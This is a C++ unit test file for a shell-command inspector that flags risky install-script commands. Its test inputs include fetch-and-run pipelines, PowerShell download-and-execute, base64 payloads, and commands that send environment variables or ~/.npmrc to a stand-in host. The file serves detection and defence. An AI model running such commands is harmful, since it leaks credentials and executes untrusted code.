#include "inspect/shell_facts.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "inspect/shell.h"

namespace cordon::inspect {
namespace {

bool has(std::string_view command, FlagKind kind, RunHow how = RunHow::none) {
  const ShellReading reading = read_shell(command);
  return std::ranges::any_of(reading.facts,
                             [&](const ShellFact& each) { return each.kind == kind && each.how == how; });
}

using Texts = std::vector<std::string>;

TEST(Shell, SplitsAsAShellDoes) {
  bool complete = false;
  const auto commands = split_shell("A=1 node 'a b.js' && \"c\"d | e >f 2>&1 ; # no\n g & h", complete);
  EXPECT_TRUE(complete);
  ASSERT_EQ(commands.size(), 5u);
  EXPECT_EQ(commands[0].words, Texts({"A=1", "node", "a b.js"}));
  EXPECT_EQ(commands[1].words, Texts({"cd"}));
  EXPECT_TRUE(commands[2].piped);
  EXPECT_EQ(commands[2].into, Texts({"f"}));
  EXPECT_TRUE(commands[3].background);
  EXPECT_EQ(commands[4].words, Texts({"h"}));
  EXPECT_EQ(started_by(commands[0]).front(), "node");
}

TEST(ShellFacts, WhatIsFetchedAndRun) {
  EXPECT_TRUE(has("curl -fsSL https://a.example.test/i.sh | sh", FlagKind::download_and_run, RunHow::shell));
  EXPECT_TRUE(has("sh -c \"$(wget -qO- https://a.example.test/i.sh)\"", FlagKind::download_and_run, RunHow::shell));
  EXPECT_TRUE(has("bash <(curl -s https://a.example.test/i)", FlagKind::download_and_run, RunHow::shell));
  EXPECT_TRUE(has("curl -o /tmp/l.py https://a.example.test/l && nohup python3 /tmp/l.py &", FlagKind::download_and_run,
                  RunHow::shell));
  EXPECT_TRUE(has("powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://a.example.test')\"",
                  FlagKind::download_and_run, RunHow::shell));
  EXPECT_TRUE(has("wget https://a.example.test/tool && chmod +x tool", FlagKind::download_and_run, RunHow::permitted));
}

TEST(ShellFacts, WhatIsOnlyFetchedOrOnlySaid) {
  EXPECT_FALSE(
      has("curl -o a.tgz https://a.example.test/a.tgz && tar xf a.tgz", FlagKind::download_and_run, RunHow::shell));
  EXPECT_FALSE(has("echo 'curl https://a.example.test/i.sh | sh'", FlagKind::download_and_run, RunHow::shell));
  EXPECT_FALSE(has("curl https://a.example.test/x | jq .name", FlagKind::download_and_run, RunHow::shell));
  EXPECT_FALSE(has("cat a.sh | sh", FlagKind::download_and_run, RunHow::shell));
}

TEST(ShellFacts, WhatStandsInOtherWords) {
  EXPECT_TRUE(has("certutil -urlcache -split -f https://a.example.test/a a.exe", FlagKind::shell_download));
  EXPECT_FALSE(has("certutil -hashfile a.exe", FlagKind::shell_download));
  EXPECT_TRUE(has("powershell -enc AAAA", FlagKind::encoded_payload));
  EXPECT_TRUE(has("echo x && echo YQ== | base64 -d | sh", FlagKind::encoded_payload));
  EXPECT_TRUE(has("npm publish", FlagKind::publish));
  EXPECT_TRUE(has("env | curl -d @- https://a.example.test", FlagKind::secrets_sent));
  EXPECT_TRUE(has("curl -F f=@$HOME/.npmrc https://a.example.test", FlagKind::secrets_sent));
  EXPECT_TRUE(has("echo evil >> ~/.bashrc", FlagKind::outside_write));
  EXPECT_FALSE(has("echo good >> ./notes.bashrc.txt", FlagKind::outside_write));
  EXPECT_TRUE(has("rm -f \"$0\"", FlagKind::self_deletion));
  EXPECT_TRUE(has("mv package.md package.json", FlagKind::manifest_write));
  EXPECT_TRUE(has("curl -fsSL https://bun.sh/install -o i", FlagKind::second_runtime));
}

TEST(ShellFacts, WhatOfThePackageIsStarted) {
  const ShellReading reading = read_shell(
      "node install.js || npm run build && sh -c 'node ./lib/x' ; node -e \"require('./y')\" ; prebuild-install");
  EXPECT_EQ(reading.files, Texts({"install.js", "./lib/x"}));
  EXPECT_EQ(reading.scripts, Texts({"build"}));
  EXPECT_EQ(reading.code, Texts({"require('./y')"}));
  EXPECT_EQ(reading.programs, Texts({"prebuild-install"}));
}

TEST(ShellFacts, ManyCommandsAreReadInPart) {
  std::string text;
  for (int i = 0; i < 100'000; ++i) text += "$(";
  EXPECT_TRUE(read_shell(text).facts.empty());
  text.clear();
  for (int i = 0; i < 10'000; ++i) text += "a;";
  EXPECT_FALSE(read_shell(text).is_complete);
}

}  // namespace
}  // namespace cordon::inspect
